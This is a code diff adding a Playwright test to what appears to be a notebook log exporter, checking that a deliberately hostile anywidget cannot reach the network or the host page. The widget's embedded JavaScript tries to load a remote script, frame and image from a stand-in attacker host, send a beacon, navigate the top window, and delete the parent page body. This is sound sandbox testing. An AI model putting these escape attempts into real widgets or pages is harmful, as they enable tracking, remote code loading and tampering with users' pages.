@@ -35,6 +35,26 @@ class Dial(anywidget.AnyWidget):
     turns = traitlets.Int(3).tag(sync=True)
 
 
+class Leak(anywidget.AnyWidget):
+    """Tries every way out of its frame."""
+
+    _esm = """export default { render({ el }) {
+      el.textContent = "trying";
+      const add = (tag, values) => el.append(Object.assign(document.createElement(tag), values));
+      add("img", { src: "https://evil.example/image" });
+      add("iframe", { src: "https://evil.example/frame" });
+      add("link", { rel: "prefetch", href: "https://evil.example/prefetch" });
+      add("script", { src: "https://evil.example/script" });
+      fetch("https://evil.example/fetch").catch(() => {});
+      navigator.sendBeacon("https://evil.example/beacon");
+      for (const leave of [() => { top.location = "https://evil.example/top"; }, () => open("https://evil.example/open"),
+        () => eval("1"), () => { top.document.body.remove(); }]) {
+        try { leave(); } catch { el.append(" refused"); }
+      }
+      setTimeout(() => { location.href = "https://evil.example/navigate"; }, 200);
+    } }"""
+
+
 @pytest.fixture(scope="module")
 def log_file(tmp_path_factory):
     brush = alt.selection_interval(name="picked", encodings=["x"])
@@ -155,4 +175,26 @@ def test_without_scripts_all_but_the_replays_can_be_read(browser, log_file):
     assert page.get_by_text("second", exact=True).is_visible()
     assert page.locator("math").count() == 1
     assert page.locator("figure.replay").first.is_visible()
+    context.close()
+
+
+def test_a_hostile_widget_reaches_neither_the_page_nor_a_network(browser, tmp_path):
+    path = tmp_path / "log.html"
+    path.write_bytes(page_of(mo.md("# A log"), Leak()).html)
+    context = browser.new_context()
+    asked = []
+    context.route("https://**", lambda route: (asked.append(route.request.url), route.abort()))
+    page = context.new_page()
+    refused = []
+    page.on("console", lambda line: refused.append(line.text) if "evil.example/navigate" in line.text else None)
+    page.on("framenavigated", lambda frame: refused.append(frame.url) if frame != page.main_frame else None)
+    page.goto(path.as_uri())
+    page.wait_for_selector("figure.widget.drawn")
+    for _ in range(100):
+        if any("chrome-error" in line for line in refused):
+            break
+        page.wait_for_timeout(50)
+    assert any("chrome-error" in line for line in refused)
+    assert (asked, len(context.pages), page.url) == ([], 1, path.as_uri())
+    assert page.get_by_role("heading", name="A log", level=1).is_visible()
     context.close()
